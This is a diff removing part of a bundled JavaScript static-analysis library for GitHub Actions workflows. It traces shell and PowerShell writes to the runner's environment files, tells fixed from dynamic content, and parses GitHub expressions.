-    "echo",
-    "join-path",
-    "printf",
-    "realpath",
-    "which",
-    "write-host",
-    "write-output",
-]);
-/** Commands that print what comes in, changed by nothing but their arguments, if those name no file. */
-const FILTERS = new Set([
-    "base64",
-    "cut",
-    "md5sum",
-    "rev",
-    "sha1sum",
-    "sha256sum",
-    "sort",
-    "tac",
-    "tr",
-    "uniq",
-    "xxd",
-]);
-/** Commands that print nothing to standard output, or nothing that matters. */
-const SILENT = new Set([
-    ":",
-    "((",
-    "[",
-    "[[",
-    "break",
-    "cd",
-    "chmod",
-    "continue",
-    "declare",
-    "exit",
-    "export",
-    "false",
-    "let",
-    "local",
-    "mkdir",
-    "readonly",
-    "return",
-    "rm",
-    "set",
-    "setlocal",
-    "shift",
-    "shopt",
-    "sleep",
-    "test",
-    "touch",
-    "trap",
-    "true",
-    "unset",
-    "wait",
-]);
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/values.js
-
-
-
-
-/**
- * Tells what of a script is fixed. Questions are answered by the first piece that isn't: a range of the script, or
- * `undefined` when everything is.
- */
-class Values {
-    script;
-    assigned = new Map();
-    functions = new Map();
-    open = new Set();
-    known = new Map();
-    foldsCase;
-    isPowerShell;
-    constructor(script) {
-        this.script = script;
-        this.isPowerShell = isPowerShell(script.shell);
-        this.foldsCase = this.isPowerShell || script.shell === "cmd";
-        for (const command of script.commands)
-            this.learnCommand(command);
-        for (const group of script.groups)
-            this.learnGroup(group);
-    }
-    /** The first piece of a word that isn't fixed. */
-    dynamicIn(word) {
-        if (this.isPowerShell && /^\[[^\]]*\]::/.test(word.text))
-            return word;
-        return this.dynamicPart(word.parts);
-    }
-    /** What a command, a group or a stage of a pipeline prints. */
-    dynamicOutput(stage) {
-        if (stage.kind !== "command")
-            return this.dynamicList(stage.commands);
-        const { name, args, wrappers } = effectiveCommand(stage);
-        if (!name)
-            return this.isPowerShell ? this.dynamicWords(args) : undefined;
-        if (wrappers.includes("xargs")) {
-            // What comes in is arguments too.
-            const fed = this.dynamicInput(stage);
-            if (fed)
-                return fed;
-        }
-        const program = this.programOf(name);
-        if (program === undefined)
-            return name;
-        return this.dynamicProgram(program, args, stage);
-    }
-    /** What comes in on a command's standard input. */
-    dynamicInput(command) {
-        const input = command.redirects.findLast(({ operator }) => operator.startsWith("<"));
-        if (input)
-            return this.dynamicRedirect(input);
-        const { pipeline } = command;
-        if (pipeline && pipeline.index > 0)
-            return this.dynamicOutput(pipeline.stages[pipeline.index - 1]);
-        for (let group = command.place.group; group; group = group.place.group) {
-            const isFed = (group.pipeline?.index ?? 0) > 0 || group.redirects.some(({ operator }) => operator.startsWith("<"));
-            if (isFed)
-                return command;
-        }
-        // A step has no input of its own.
-        return undefined;
-    }
-    /** The name of a program without its folder, aliases resolved in PowerShell. */
-    programOf(name) {
-        const literal = name?.literal;
-        if (literal === undefined)
-            return undefined;
-        const base = literal.slice(Math.max(literal.lastIndexOf("/"), literal.lastIndexOf("\\")) + 1);
-        if (this.isPowerShell)
-            return pwshAlias(base);
-        return this.foldsCase ? base.toLowerCase().replace(/^@/, "") : base;
-    }
-    dynamicWords(words) {
-        for (const word of words) {
-            const found = this.dynamicIn(word);
-            if (found)
-                return found;
-        }
-        return undefined;
-    }
-    dynamicProgram(program, args, command) {
-        if (SILENT.has(program) || (this.foldsCase && program === "set"))
-            return undefined;
-        if (PRINTS_ARGUMENTS.has(program) || CONSTANT_OUTPUT.has(program))
-            return this.dynamicWords(args);
-        if (program === "cat" || FILTERS.has(program))
-            return this.dynamicFilter(program, args, command);
-        if (program === "git" && printsCommit(args))
-            return undefined;
-        if (program === "grep" && args.some(({ literal }) => /^-[a-z]*q/.test(literal ?? "")))
-            return undefined;
-        const body = this.functions.get(program);
-        if (body)
-            return this.once(`function ${program}`, () => this.dynamicList(body.commands)) ? command : undefined;
-        return command;
-    }
-    dynamicFilter(program, args, command) {
-        const file = args.find((word, index) => {
-            const text = word.literal;
-            if (text === undefined)
-                return true;
-            if (text === "-" || text.startsWith("-") || program === "tr")
-                return false;
-            // The value of an option such as `cut -d = -f 2`.
-            return program === "cat" || !/^-[a-z]$/.test(args[index - 1]?.literal ?? "");
-        });
-        if (program === "tr")
-            return this.dynamicWords(args) ?? this.dynamicInput(command);
-        return file ?? this.dynamicInput(command);
-    }
-    /** Commands that run one after the other, with what each prints. */
-    dynamicList(commands) {
-        for (const command of commands) {
-            const { pipeline } = command;
-            if (pipeline && pipeline.index < pipeline.stages.length - 1)
-                continue;
-            if (command.redirects.some(takesOutput))
-                continue;
-            if (isWithin(command, "function", commands))
-                continue;
-            const found = this.dynamicOutput(command);
-            if (found)
-                return found;
-        }
-        return undefined;
-    }
-    dynamicRedirect(redirect) {
-        if (redirect.heredoc)
-            return this.dynamicIn(redirect.heredoc.content);
-        if (redirect.operator === "<<<" && redirect.target)
-            return this.dynamicIn(redirect.target);
-        return redirect.target ?? redirect;
-    }
-    dynamicPart(parts) {
-        for (const part of parts) {
-            const found = this.isDynamicPart(part);
-            if (found)
-                return found;
-        }
-        return undefined;
-    }
-    isDynamicPart(part) {
-        switch (part.kind) {
-            case "literal":
-                return undefined;
-            case "expression":
-                return part;
-            case "variable":
-                return this.dynamicVariable(part);
-            case "substitution":
-                return this.dynamicList(part.commands);
-            case "arithmetic":
-                // A number, unless an expression is pasted into it.
-                return part.parts.find(({ kind }) => kind === "expression");
-            case "glob":
-                // Names of files. A lone `?` is more often part of an address.
-                if (part.pattern !== undefined)
-                    return part.pattern === "?" ? undefined : part;
-                return this.dynamicPart(part.parts);
-        }
-    }
-    dynamicVariable(part) {
-        const inOperand = this.dynamicPart(part.operand);
-        if (inOperand)
-            return inOperand;
-        if (part.operator === "length" || part.operator === "+" || part.operator === ":+")
-            return undefined;
-        if (part.operator === "indirect")
-            return part;
-        return this.isFixed(part.name) ? undefined : part;
-    }
-    isFixed(name) {
-        const key = this.foldsCase ? name.toLowerCase() : name;
-        const assigned = this.assigned.get(key);
-        if (!assigned)
-            return isConstant(name) || (this.script.shell === "cmd" && isConstant(name.toUpperCase()));
-        const known = this.known.get(key);
-        if (known !== undefined)
-            return known;
-        // `PATH="$PATH:/x"`: what it was before decides, and that is another assignment or the runner's value.
-        if (this.open.has(key))
-            return isConstant(name) || assigned.length > 1;
-        this.open.add(key);
-        const fixed = assigned.every((words) => words !== null && this.dynamicWords(words) === undefined);
-        this.open.delete(key);
-        // Inside a cycle the answer is good for this question only.
-        if (this.open.size === 0)
-            this.known.set(key, fixed);
-        return fixed;
-    }
-    /** Asks a question that may lead back to itself, where the answer is "not fixed". */
-    once(key, question) {
-        if (this.open.has(key))
-            return true;
-        this.open.add(key);
-        const answer = question() !== undefined;
-        this.open.delete(key);
-        return answer;
-    }
-    learnCommand(command) {
-        const isShells = !this.foldsCase;
-        for (const { name, values } of command.assignments) {
-            // `X=1 command`: for that command alone.
-            if (isShells && command.name)
-                continue;
-            const comesFromCommand = this.isPowerShell && command.name !== undefined;
-            const isAsked = !isShells && command.args.some(({ text }) => /^\/p$/i.test(text));
-            this.learn(name, comesFromCommand || isAsked ? null : values);
-        }
-        const program = this.programOf(effectiveCommand(command).name);
-        if (program === undefined || !isShells)
-            return;
-        if (DECLARES.has(program)) {
-            for (const word of command.args) {
-                const name = /^([A-Za-z_][A-Za-z0-9_]*)\+?=/.exec(word.text)?.[1];
-                if (name)
-                    this.learn(name, [word]);
-            }
-        }
-        else if (READS.has(program)) {
-            for (const { literal } of command.args)
-                if (literal && /^\w+$/.test(literal))
-                    this.learn(literal, null);
-        }
-        else if (program === "printf" && command.args[0]?.literal === "-v") {
-            this.learn(command.args[1]?.literal ?? "", command.args.slice(2));
-        }
-    }
-    learnGroup(group) {
-        if (group.kind === "function" && group.name !== undefined)
-            this.functions.set(group.name, group);
-        const isLoop = group.kind === "for" || group.kind === "select";
-        if (isLoop && group.name !== undefined) {
-            this.learn(group.name, group.kind === "for" && group.words.length > 0 ? group.words : null);
-        }
-    }
-    learn(name, words) {
-        const key = this.foldsCase ? name.toLowerCase() : name;
-        const before = this.assigned.get(key);
-        if (before)
-            before.push(words);
-        else
-            this.assigned.set(key, [words]);
-    }
-}
-const DECLARES = new Set(["export", "declare", "local", "readonly", "typeset"]);
-const READS = new Set(["read", "mapfile", "readarray", "getopts"]);
-/** Redirects of standard output. */
-function takesOutput({ operator, descriptor }) {
-    return ((operator.includes(">") &&
-        operator !== "<>" &&
-        operator !== ">&" &&
-        (descriptor === undefined || descriptor === "1" || descriptor === "*")) ||
-        operator.startsWith("&>"));
-}
-/** `git rev-parse HEAD`: a hash. With `--abbrev-ref` it would be a branch's name. */
-function printsCommit(args) {
-    const words = args.map(({ literal }) => literal);
-    const [first, ...rest] = words;
-    return (first === "rev-parse" &&
-        rest.length > 0 &&
-        rest.every((word) => word === "HEAD" || word === "--verify" || word?.startsWith("--short")));
-}
-/** Is the command in a function that is defined among `commands`? Defining one prints nothing. */
-function isWithin(command, kind, commands) {
-    const outside = commands[0]?.place.inFunction;
-    return kind === "function" && command.place.inFunction !== undefined && command.place.inFunction !== outside;
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/shell-writes.js
-
-
-
-/** Writes by the commands of a shell script. */
-function shellWrites(script, names) {
-    const finder = new Finder(script, names);
-    for (const command of script.commands)
-        finder.command(command);
-    for (const group of script.groups)
-        finder.group(group);
-    return finder.writes;
-}
-class Finder {
-    writes = [];
-    targets;
-    values;
-    isPowerShell;
-    constructor(script, names) {
-        this.targets = new Targets(script, names);
-        this.values = new Values(script);
-        this.isPowerShell = isPowerShell(script.shell);
-    }
-    group(group) {
-        for (const redirect of group.redirects) {
-            const file = this.fileOf(redirect);
-            if (file !== undefined)
-                this.add(file, group, redirect.target, undefined, this.values.dynamicOutput(group));
-        }
-    }
-    command(command) {
-        const { name, args } = effectiveCommand(command);
-        const program = this.values.programOf(name);
-        for (const redirect of command.redirects) {
-            const file = this.fileOf(redirect);
-            if (file === undefined)
-                continue;
-            const isFixed = program !== "exec" && takesOutput(redirect);
-            // After `exec >> file` everything that follows goes there; errors of a program are its own words.
-            const dynamic = isFixed ? this.values.dynamicOutput(command) : command;
-            this.add(file, command, redirect.target, command, dynamic);
-        }
-        if (program !== undefined && args.length > 0) {
-            if (this.isPowerShell)
-                this.cmdlet(program, args, command);
-            else
-                this.program(program, args, command);
-        }
-        if (this.isPowerShell)
-            for (const word of command.args)
-                this.method(word, command);
-    }
-    fileOf(redirect) {
-        if (redirect.heredoc || !redirect.operator.includes(">"))
-            return undefined;
-        return this.targets.of(redirect.target);
-    }
-    program(program, args, command) {
-        if (program === "tee" || program === "sponge") {
-            for (const word of args) {
-                const file = this.targets.of(word);
-                if (file !== undefined)
-                    this.add(file, command, word, command, this.values.dynamicInput(command));
-            }
-        }
-        else if (COPIES.has(program))
-            this.writesTo(args[args.length - 1], command);
-        else if (program === "sed" && args.some(({ literal }) => /^-[a-z]*i|^--in-place/i.test(literal ?? ""))) {
-            this.writesTo(args[args.length - 1], command);
-        }
-        else {
-            args.forEach((word, index) => {
-                if (index > 0 && OUTPUT_OPTIONS.has(args[index - 1]?.literal ?? ""))
-                    this.writesTo(word, command);
-            });
-        }
-    }
-    /** What a program writes by itself isn't fixed. */
-    writesTo(word, command) {
-        const file = this.targets.of(word);
-        if (word && file !== undefined)
-            this.add(file, command, word, command, command);
-    }
-    cmdlet(program, args, command) {
-        const isContent = program === "add-content" || program === "set-content";
-        if (!isContent && program !== "out-file" && program !== "tee-object") {
-            if (program === "copy-item" || program === "move-item")
-                for (const word of args.slice(1))
-                    this.writesTo(word, command);
-            return;
-        }
-        const { paths, values } = cmdletParameters(args);
-        for (const path of paths) {
-            const file = this.targets.of(path);
-            if (file === undefined)
-                continue;
-            const dynamic = values.length > 0 ? this.values.dynamicWords(values) : this.values.dynamicInput(command);
-            this.add(file, command, path, command, dynamic);
-            return;
-        }
-    }
-    /** `[IO.File]::AppendAllText($env:GITHUB_ENV, "…")`. */
-    method(word, command) {
-        const call = word.parts.find((part) => part.kind === "substitution");
-        if (!call || !FILE_METHOD.test(word.text.slice(0, call.start - word.start)))
-            return;
-        const [path, ...content] = call.commands[0]?.args ?? [];
-        const file = this.targets.of(path);
-        if (path && file !== undefined)
-            this.add(file, command, path, command, this.values.dynamicWords(content));
-    }
-    add(file, writer, target, command, dynamic) {
-        this.writes.push({
-            file,
-            span: { start: writer.start, end: writer.end },
-            targetSpan: { start: target.start, end: target.end },
-            command,
-            content: dynamic ? "dynamic" : "static",
-            dynamicSpan: dynamic && { start: dynamic.start, end: dynamic.end },
-        });
-    }
-}
-const COPIES = new Set(["cp", "mv", "install", "ln", "copy", "move"]);
-const OUTPUT_OPTIONS = new Set(["-o", "--output", "-O", "--output-document", "--out"]);
-const FILE_METHOD = /\[(?:System\.)?IO\.File\]::(?:Append|Write)All(?:Text|Lines|Bytes)(?:Async)?$/i;
-const SWITCH = /^-(?:append|noclobber|force|nonewline|passthru|whatif|confirm|verbose|debug)$/i;
-const PATH_PARAMETER = /^-(?:filepath|path|literalpath|pspath|lp)$/i;
-const VALUE_PARAMETER = /^-(?:value|inputobject)$/i;
-/**
- * What `Out-File`, `Add-Content`, `Set-Content` and `Tee-Object` are given: the path first, the value second when they
- * aren't named.
- */
-function cmdletParameters(args) {
-    const paths = [];
-    const values = [];
-    for (let index = 0; index < args.length; index++) {
-        const word = args[index];
-        const next = args[index + 1];
-        const { text } = word;
-        if (SWITCH.test(text))
-            continue;
-        if (/^-[A-Za-z]/.test(text)) {
-            if (next && PATH_PARAMETER.test(text))
-                paths.push(next);
-            else if (next && VALUE_PARAMETER.test(text))
-                values.push(next);
-            index++;
-        }
-        else if (paths.length === 0)
-            paths.push(word);
-        else
-            values.push(word);
-    }
-    return { paths, values };
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/write.js
-/** The files through which a step hands values to later ones: variables, `PATH`, outputs, state. */
-const ENVIRONMENT_FILES = ["GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "GITHUB_STATE"];
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/index.js
-
-
-
-
-
-
-/**
- * Every write of a script to the files that `names` name, in source order: redirects of commands and groups, `tee`, what
- * PowerShell, cmd, Python and JavaScript do for it, also in a program inside a here-document.
- */
-function environmentFileWrites(script, names = ENVIRONMENT_FILES) {
-    if (!mentions(script.text, names) && !/github\s*\.\s*(?:env|path|output|state|step_summary)/i.test(script.text))
-        return [];
-    const writes = writesOf(script, names);
-    writes.sort((a, b) => a.span.start - b.span.start || a.targetSpan.start - b.targetSpan.start);
-    return writes.filter((write, index) => !isSameWrite(write, writes[index - 1]));
-}
-/** A command that names the file twice writes once. */
-function isSameWrite(write, before) {
-    return write.command !== undefined && write.command === before?.command && write.file === before.file;
-}
-function writesOf(script, names) {
-    if (script.shell === "python")
-        return pythonWrites(script, names);
-    if (script.shell === "javascript")
-        return javascriptWrites(script, names);
-    const writes = shellWrites(script, names);
-    for (const { shell, start, end } of embeddedPrograms(script)) {
-        const text = script.text.slice(start, end);
-        if (!mentions(text, names))
-            continue;
-        for (const write of environmentFileWrites(parseScript(text, shell), names))
-            writes.push(moved(write, start));
-    }
-    return writes;
-}
-function moved(write, by) {
-    const move = ({ start, end }) => ({ start: start + by, end: end + by });
-    return {
-        ...write,
-        span: move(write.span),
-        targetSpan: move(write.targetSpan),
-        // Its offsets are offsets into the inner text.
-        command: undefined,
-        dynamicSpan: write.dynamicSpan && move(write.dynamicSpan),
-    };
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/words.js
-/** Every part of a word, those inside operands, arithmetic and globs too; not what is inside substitutions. */
-function* words_partsOf(parts) {
-    for (const part of parts) {
-        yield part;
-        if (part.kind === "variable")
-            yield* words_partsOf(part.operand);
-        else if (part.kind === "arithmetic" || part.kind === "glob")
-            yield* words_partsOf(part.parts);
-    }
-}
-/** The variables that a word expands, without those inside its substitutions. */
-function variablesOf(word) {
-    return [...words_partsOf(word.parts)].filter((part) => part.kind === "variable");
-}
-/** The `${{ }}` that a word holds, without those inside its substitutions. */
-function expressionsOf(word) {
-    return [...words_partsOf(word.parts)].filter((part) => part.kind === "expression");
-}
-/** The substitutions of a word, outermost only. */
-function substitutionsOf(word) {
-    return [...words_partsOf(word.parts)].filter((part) => part.kind === "substitution");
-}
-const ALWAYS = new Set(["if-test", "loop-test"]);
-/** May the script run without running the command? A function's body counts as conditional: it runs when called. */
-function isConditional(command) {
-    const { place } = command;
-    if (place.inFunction !== undefined || place.conditions.some((condition) => !ALWAYS.has(condition)))
-        return true;
-    return place.nestedIn !== undefined && isConditional(place.nestedIn);
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/index.js
-
-
-
-
-
-
-
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/env.js
-/** An `env:` block. GitHub also accepts one expression in its place: then `entries` is empty and `dynamic` is that scalar. */
-class EnvBlock {
-    level;
-    entry;
-    parent;
-    #entries;
-    constructor(level, 
-    /** The `env` key with its value. */
-    entry, 
-    /** The step, job, workflow or container that it stands in. */
-    parent) {
-        this.level = level;
-        this.entry = entry;
-        this.parent = parent;
-    }
-    get map() {
-        return this.entry.value.kind === "map" ? this.entry.value : undefined;
-    }
-    get dynamic() {
-        const { value } = this.entry;
-        return value.kind === "scalar" && value.value.includes("${{") ? value : undefined;
-    }
-    get entries() {
-        this.#entries ??= (this.map?.entries ?? []).map((entry) => ({
-            level: this.level,
-            name: entry.key.value,
-            entry,
-            value: entry.value.kind === "scalar" ? entry.value : null,
-            block: this,
-        }));
-        return this.#entries;
-    }
-    /** Names have no case in the `env` context and on Windows; elsewhere variables have. The exact name wins. */
-    get(name) {
-        const lower = name.toLowerCase();
-        return (this.entries.find((entry) => entry.name === name) ??
-            this.entries.find((entry) => entry.name.toLowerCase() === lower));
-    }
-}
-function envBlock(level, map) {
-    const entry = map.entry("env");
-    return entry ? new EnvBlock(level, entry, map) : null;
-}
-const TRUE_WORDS = new Set(["1", "true", "$true"]);
-/** Is a switch of the runner on? It reads `true`, `1` and `$true`, in any case (actions/runner, `StringUtil.ConvertToBoolean`). */
-function isSwitchedOn(node) {
-    return node?.kind === "scalar" && TRUE_WORDS.has(node.value.trim().toLowerCase());
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/ast.js
-/** The expressions directly inside one. */
-function childrenOf(expression) {
-    switch (expression.kind) {
-        case "literal":
-        case "context":
-            return [];
-        case "property":
-        case "filter":
-            return [expression.object];
-        case "index":
-            return [expression.object, expression.index];
-        case "call":
-            return expression.args;
-        case "not":
-            return [expression.operand];
-        default:
-            return [expression.left, expression.right];
-    }
-}
-/** Calls `visit` for an expression and everything in it, outermost first. */
-function visitExpression(expression, visit) {
-    visit(expression);
-    for (const child of childrenOf(expression))
-        visitExpression(child, visit);
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/contexts.js
-
-/** `github.event.issue.title`, `secrets['NAME']`, `a.*.b`; undefined for what doesn't begin with a context. */
-function contextPath(expression) {
-    const segments = [];
-    let exact = true;
-    for (let node = expression;; node = node.object) {
-        switch (node.kind) {
-            case "context":
-                segments.push(node.name);
-                return { segments: segments.reverse(), exact };
-            case "property":
-                segments.push(node.name);
-                break;
-            case "filter":
-                segments.push("*");
-                break;
-            case "index": {
-                const { index } = node;
-                const isName = index.kind === "literal" && typeof index.value === "string";
-                segments.push(isName ? index.value.toLowerCase() : "*");
-                if (index.kind !== "literal")
-                    exact = false;
-                break;
-            }
-            default:
-                return undefined;
-        }
-    }
-}
-/** Every context access of an expression, those in indexes and conditions too. */
-function references(expression) {
-    const found = [];
-    collect(expression, found);
-    return found;
-}
-function collect(expression, found) {
-    const path = contextPath(expression);
-    if (!path) {
-        for (const child of childrenOf(expression))
-            collect(child, found);
-        return;
-    }
-    found.push({ ...path, node: expression });
-    collectIndexes(expression, found);
-}
-/** `a[b.c].d` reads `b.c`, too. */
-function collectIndexes(expression, found) {
-    if (expression.kind === "index")
-        collect(expression.index, found);
-    if (expression.kind === "index" || expression.kind === "property" || expression.kind === "filter") {
-        collectIndexes(expression.object, found);
-    }
-}
-/** Functions whose result is `true`, `false` or a hash, whatever they are given. */
-const CLEAN_FUNCTIONS = new Set([
-    "always",
-    "cancelled",
-    "contains",
-    "endswith",
-    "failure",
-    "hashfiles",
-    "startswith",
-    "success",
-]);
-/**
- * The context accesses whose text can be part of the result, each once a place.
- *
- * Comparisons and tests give `true` or `false`; `a && b` gives `a` only where `a` is empty, false or zero; everything else
- * hands on what it is given.
- */
-function dataflow(expression) {
-    const found = [];
-    collectCarried(expression, false, found);
-    return found;
-}
-function collectCarried(expression, throughToJson, found) {
-    const path = contextPath(expression);
-    if (path) {
-        found.push({ ...path, node: expression, throughToJson });
-        return;
-    }
-    switch (expression.kind) {
-        case "call": {
-            const { name, args } = expression;
-            if (CLEAN_FUNCTIONS.has(name))
-                return;
-            const asJson = name === "tojson" || (throughToJson && name !== "fromjson");
-            for (const arg of carriedArguments(name, args))
-                collectCarried(arg, asJson, found);
-            return;
-        }
-        case "logical":
-            if (expression.operator === "||")
-                collectCarried(expression.left, throughToJson, found);
-            collectCarried(expression.right, throughToJson, found);
-            return;
-        case "property":
-        case "filter":
-        case "index":
-            collectCarried(expression.object, throughToJson, found);
-    }
-}
-/** `case(condition, value, condition, value, …, default)` hands on its values; other functions all they are given. */
-function carriedArguments(name, args) {
-    return name === "case" ? args.filter((_, i) => i % 2 === 1 || i === args.length - 1) : args;
-}
-/** The expressions that a result may come from as a whole: both sides of `||`, the right one of `&&`, the values of `case`. */
-function resultLeaves(expression) {
-    if (expression.kind === "logical") {
-        const right = resultLeaves(expression.right);
-        return expression.operator === "&&" ? right : [...resultLeaves(expression.left), ...right];
-    }
-    if (expression.kind === "call" && expression.name === "case") {
-        return carriedArguments("case", expression.args).flatMap(resultLeaves);
-    }
-    return [expression];
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/lexer.js
-/** What is wrong with an expression, and where. */
-class ExpressionError extends Error {
-    start;
-    end;
-    constructor(message, start, end) {
-        super(message);
-        this.start = start;
-        this.end = end;
-    }
-}
-const PUNCTUATION = new Map(["(", ")", "[", "]", ",", ".", "*", "!", "<", ">"].map((kind) => [kind, kind]));
-const PAIRS = new Map(["&&", "||", "==", "!=", "<=", ">="].map((kind) => [kind, kind]));
-/** After these a dot begins an access; anywhere else it begins a number. */
-const OPERAND_ENDS = new Set(["name", "string", "number", ")", "]", "*", "."]);
-/** Up to the next character that can't belong to a number: what is in between has to be one as a whole. */
-const NUMBER_RUN = /[-+]?[0-9A-Za-z_.+-]+/y;
-/**
- * Reads an expression one token at a time; its fields describe the token at hand.
- *
- * @see actions/runner, `LexicalAnalyzer`; Evaluate expressions in workflows and actions, "Literals"
- */
-class Lexer {
-    source;
-    /** A `,` before the first token: a value may begin. */
-    kind = ",";
-    start = 0;
-    end = 0;
-    /** A name as it is written, or the value of a string. */
-    text = "";
-    /** The value of a number. */
-    number = 0;
-    constructor(source) {
-        this.source = source;
-        this.next();
-    }
-    /** @throws ExpressionError at the first character that begins no token */
-    next() {
-        const { source } = this;
-        let at = this.end;
-        while (isSpace(source.charCodeAt(at)))
-            at++;
-        this.start = at;
-        const code = source.charCodeAt(at);
-        if (isNameStart(code))
-            this.readName();
-        else if (code === 39)
-            this.readString();
-        else if (this.startsNumber(code))
-            this.readNumber();
-        else
-            this.readPunctuation();
-    }
-    readName() {
-        const { source } = this;
-        let at = this.start + 1;
-        while (isNamePart(source.charCodeAt(at)))
-            at++;
-        this.kind = "name";
-        this.text = source.slice(this.start, at);
-        this.end = at;
-    }
-    readString() {
-        const { source, start } = this;
-        let close = source.indexOf("'", start + 1);
-        let isEscaped = false;
-        while (close !== -1 && source.charCodeAt(close + 1) === 39) {
-            isEscaped = true;
-            close = source.indexOf("'", close + 2);
-        }
-        if (close === -1)
-            throw new ExpressionError("the string is not closed", start, source.length);
-        const raw = source.slice(start + 1, close);
-        this.kind = "string";
-        this.text = isEscaped ? raw.replaceAll("''", "'") : raw;
-        this.end = close + 1;
-    }
-    startsNumber(code) {
-        if (isDigit(code))
-            return this.kind !== ".";
-        if (code === 46)
-            return !OPERAND_ENDS.has(this.kind);
-        return code === 43 || code === 45;
-    }
-    readNumber() {
-        NUMBER_RUN.lastIndex = this.start;
-        const run = NUMBER_RUN.exec(this.source)?.[0] ?? this.source[this.start];
-        this.end = this.start + run.length;
-        this.kind = "number";
-        this.number = parseNumber(run);
-        if (Number.isNaN(this.number))
-            throw new ExpressionError(`\`${run}\` is no number`, this.start, this.end);
-    }
-    readPunctuation() {
-        const { source, start } = this;
-        if (start >= source.length) {
-            this.kind = "end";
-            this.end = start;
-            return;
-        }
-        const pair = PAIRS.get(source.slice(start, start + 2));
-        const kind = pair ?? PUNCTUATION.get(source[start]);
-        if (kind === undefined)
-            throw new ExpressionError(unknownCharacter(source, start), start, start + 1);
-        this.kind = kind;
-        this.end = start + (pair ? 2 : 1);
-    }
-}
-function unknownCharacter(source, at) {
-    const char = String.fromCodePoint(source.codePointAt(at));
-    if (char === '"')
-        return 'strings stand in single quotes, not in "';
-    if (char === "=" || char === "&" || char === "|")
-        return `a single \`${char}\` is no operator`;
-    return `\`${char}\` has no meaning here`;
-}
-function isDigit(code) {
-    return code >= 48 && code <= 57;
-}
-function isNameStart(code) {
-    return (code >= 97 && code <= 122) || (code >= 65 && code <= 90) || code === 95;
-}
-function isNamePart(code) {
-    return isNameStart(code) || isDigit(code) || code === 45;
-}
-/** White space as .NET's `Char.IsWhiteSpace` has it. */
-function isSpace(code) {
-    if (code <= 32)
-        return code === 32 || (code >= 9 && code <= 13);
-    return code >= 0x85 && code !== 0xfeff && (code === 0x85 || /\s/.test(String.fromCharCode(code)));
-}
-const DECIMAL = /^[-+]?(?:\d+\.?\d*|\.\d+)(?:[eE][-+]?\d+)?$/;
-const HEXADECIMAL = /^0x[0-9a-fA-F]+$/;
-const OCTAL = /^0o[0-7]+$/;
-/**
- * A number as the expression language reads it, from a literal or a string; NaN for what is none.
- *
- * @see actions/runner, `ExpressionUtility.ParseNumber`
- */
-function parseNumber(text) {
-    const trimmed = text.trim();
-    if (trimmed === "")
-        return 0;
-    if (DECIMAL.test(trimmed))
-        return Number(trimmed);
-    if (HEXADECIMAL.test(trimmed) || OCTAL.test(trimmed))
-        return asInt32(Number(trimmed));
-    if (trimmed === "Infinity" || trimmed === "+Infinity")
-        return Number.POSITIVE_INFINITY;
-    return trimmed === "-Infinity" ? Number.NEGATIVE_INFINITY : Number.NaN;
-}
-/** The runner reads 32 bits in two's complement: `0xffffffff` is -1, and what needs more bits is no number. */
-function asInt32(bits) {
-    return bits <= 0xffffffff ? bits | 0 : Number.NaN;
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/values.js
-
-class ObjectValue {
-    entries;
-    constructor(entries) {
-        this.entries = entries;
-    }
-    get(key) {
-        const exact = this.entries.get(key);
-        if (exact !== undefined)
-            return exact;
-        const lower = key.toLowerCase();
-        for (const [name, value] of this.entries)
-            if (name.toLowerCase() === lower)
-                return value;
-        return undefined;
-    }
-}
-function isCollection(value) {
-    return typeof value === "object" && value !== null;
-}
-function isTruthy(value) {
-    return (isCollection(value) || (value !== null && value !== false && value !== 0 && value !== "" && !Number.isNaN(value)));
-}
-/** @see Evaluate expressions in workflows and actions, "Literals" and "Operators": how values become numbers */
-function toNumber(value) {
-    if (value === null)
-        return 0;
-    if (typeof value === "boolean")
-        return value ? 1 : 0;
-    if (typeof value === "string")
-        return parseNumber(value);
-    return typeof value === "number" ? value : Number.NaN;
-}
-/** The text that a value expands to. */
-function toText(value) {
-    if (value === null)
-        return "";
-    if (isCollection(value))
-        return Array.isArray(value) ? "Array" : "Object";
-    return typeof value === "number" ? numberText(value) : String(value);
-}
-/** Fifteen significant digits, as .NET's "G15" has them: `0.1`, `1E-05`, `1.5E+21`. */
-function numberText(value) {
-    if (value === 0)
-        return "0";
-    if (!Number.isFinite(value))
-        return String(value);
-    const [digits, exponent] = value.toExponential(14).split("e");
-    const power = Number(exponent);
-    if (power >= -4 && power < 15)
-        return String(Number(value.toPrecision(15)));
-    const magnitude = String(Math.abs(power)).padStart(2, "0");
-    return `${Number(digits)}E${power < 0 ? "-" : "+"}${magnitude}`;
-}
-/**
- * Upper case one character at a time, as .NET's ordinal comparison does it: the dotless i and the long s stay what they
- * are, and no character becomes two.
- */
-function upper(text) {
-    // biome-ignore lint/suspicious/noControlCharactersInRegex: the range is ASCII
-    if (/^[\x00-\x7f]*$/.test(text))
-        return text.toUpperCase();
-    return Array.from(text, (char) => {
-        const raised = char.toUpperCase();
-        return raised.length === char.length && char !== "ı" && char !== "ſ" ? raised : char;
-    }).join("");
-}
-/** Loose equality: strings without regard to case, different types as numbers, collections only when they are the same one. */
-function areEqual(a, b) {
-    if (isCollection(a) || isCollection(b))
-        return a === b;
-    if (typeof a === "string" && typeof b === "string")
-        return upper(a) === upper(b);
-    if (typeof a === typeof b && a !== null && b !== null)
-        return a === b;
-    if (a === null && b === null)
-        return true;
-    return toNumber(a) === toNumber(b);
-}
-/** Negative, zero or positive; NaN when the values can't be compared, which makes every comparison false. */
-function compare(a, b) {
-    if (typeof a === "string" && typeof b === "string") {
-        const [left, right] = [upper(a), upper(b)];
-        return left < right ? -1 : left > right ? 1 : 0;
-    }
-    const [left, right] = [toNumber(a), toNumber(b)];
-    if (Number.isNaN(left) || Number.isNaN(right))
-        return Number.NaN;
-    return left < right ? -1 : left > right ? 1 : 0;
-}
